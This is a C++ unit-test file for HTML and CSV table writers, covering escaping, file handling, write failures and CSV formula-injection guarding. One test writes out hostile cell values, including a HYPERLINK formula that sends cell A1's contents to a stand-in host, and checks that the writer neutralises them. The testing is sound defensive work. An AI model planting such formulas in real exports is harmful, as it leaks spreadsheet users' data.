#include "export/table_writer.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "support/temp_dir.h"

namespace {

std::string ReadFile(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::ostringstream out;
    out << in.rdbuf();
    return out.str();
}

using Row = std::vector<TableCell>;

// The head and tail of a file titled "t".
const std::string kHeadT =
    "<HTML><HEAD><META http-equiv=\"Content-Type\" content=\"text/html; "
    "charset=utf-8\"><TITLE>t</TITLE></HEAD>\n<BODY>\n"
    "<TABLE border=1 width=100% cellPadding=0 cellSpacing=0>\n";
const std::string kTail = "</TABLE>\n</BODY>\n</HTML>\n";

TEST(HtmlTableWriter, WritesHeadRowsAndTailLineByLineWithEscapes) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "out.htm";
    {
        CHtmlTableWriter writer;
        ASSERT_EQ(writer.Open("活动资料 <1>", path), 1);
        writer.WriteRow(Row{"主题", "活动类型"});
        writer.WriteRow(Row{"a < b & c \"q\" <script>", ""});
        writer.WriteRow(Row{"第一行\n第二行", "&nbsp;"});
        EXPECT_EQ(writer.Close(), 1);
    }
    EXPECT_EQ(ReadFile(path),
              "<HTML><HEAD><META http-equiv=\"Content-Type\" content=\"text/html; "
              "charset=utf-8\"><TITLE>活动资料 &lt;1&gt;</TITLE></HEAD>\n"
              "<BODY>\n"
              "<TABLE border=1 width=100% cellPadding=0 cellSpacing=0>\n"
              "<TR>\n<TD>主题</TD>\n<TD>活动类型</TD>\n</TR>\n"
              "<TR>\n<TD>a &lt; b &amp; c &quot;q&quot; &lt;script&gt;</TD>\n<TD>&nbsp</TD>\n"
              "</TR>\n"
              "<TR>\n<TD>第一行\n第二行</TD>\n<TD>&amp;nbsp;</TD>\n</TR>\n"
              "</TABLE>\n</BODY>\n</HTML>\n");
}

TEST(HtmlTableWriter, ReplacesAnExistingFileAndKeepsLongTextsWholeAcrossFlushes) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "sub/dir/out.htm";  // folders made on the way
    const std::string longText(300000, 'a');
    std::string rows;
    for (int round = 0; round < 2; ++round) {
        CHtmlTableWriter writer;
        ASSERT_EQ(writer.Open("t", path), 1);
        rows.clear();
        for (int i = 0; i < 8 - 3 * round; ++i) {
            writer.WriteRow(Row{longText, std::to_string(i)});
            rows += "<TR>\n<TD>" + longText + "</TD>\n<TD>" + std::to_string(i) + "</TD>\n</TR>\n";
        }
    }                                                  // destroyed open: closed with its tail
    EXPECT_EQ(ReadFile(path), kHeadT + rows + kTail);  // the shorter second file only
}

TEST(HtmlTableWriter, ReportsFilesThatCannotBeCreatedOrWritten) {
    TempModuleFolder temp;
    std::ofstream(temp.Path() + "plain") << "x";
    CHtmlTableWriter blocked;
    EXPECT_EQ(blocked.Open("t", temp.Path() + "plain/out.htm"), 0);  // a file where a folder goes
    EXPECT_FALSE(blocked.IsOpen());
    blocked.WriteRow(Row{"a"});  // ignored
    EXPECT_EQ(blocked.Close(), 0);

    // A full disk: everything is accepted into the buffer, the flush fails.
    const std::string full = temp.Path() + "full.htm";
    ASSERT_EQ(symlink("/dev/full", full.c_str()), 0);
    CHtmlTableWriter writer;
    ASSERT_EQ(writer.Open("t", full), 1);
    writer.WriteRow(Row{"a"});
    EXPECT_EQ(writer.Close(), 0);
}

TEST(CsvTableWriter, QuotesCommasQuotesAndLineBreaksAfterAByteOrderMark) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "out.CSV";
    {
        auto writer = MakeTableWriter(path);
        ASSERT_EQ(writer->Open("销售资料", path), 1);
        writer->WriteRow(Row{"主题", "金额"});
        writer->WriteRow(Row{"a,b", "说\"好\""});
        writer->WriteRow(Row{"line1\nline2", ""});
        writer->WriteRow(Row{"cr\rx", "<plain> & ok"});
        ASSERT_EQ(writer->Close(), 1);
    }
    EXPECT_EQ(ReadFile(path),
              "\xEF\xBB\xBF"
              "主题,金额\r\n"
              "\"a,b\",\"说\"\"好\"\"\"\r\n"
              "\"line1\nline2\",\r\n"
              "\"cr\rx\",<plain> & ok\r\n");
}

TEST(CsvTableWriter, GuardsTextsThatStartLikeAFormulaButNotTheNumbersItFormats) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "out.csv";
    TableCell amount("-12.50"), count("-3"), when("2007_03_01");
    amount.kind = CellKind::Money;
    count.kind = CellKind::Integer;
    when.kind = CellKind::Day;
    {
        CCsvTableWriter writer;
        ASSERT_EQ(writer.Open("t", path), 1);
        writer.WriteRow(Row{"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1", "-1"});
        writer.WriteRow(Row{"@SUM(A1)", "\tx", "\rx"});
        writer.WriteRow(Row{"a=1", "1+1", "x-@\t"});
        writer.WriteRow(Row{amount, count, when});
        ASSERT_EQ(writer.Close(), 1);
    }
    EXPECT_EQ(ReadFile(path),
              "\xEF\xBB\xBF"
              "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\",'+1,'-1\r\n"
              "'@SUM(A1),'\tx,\"'\rx\"\r\n"
              "a=1,1+1,x-@\t\r\n"
              "-12.50,-3,2007_03_01\r\n");
}

}  // namespace
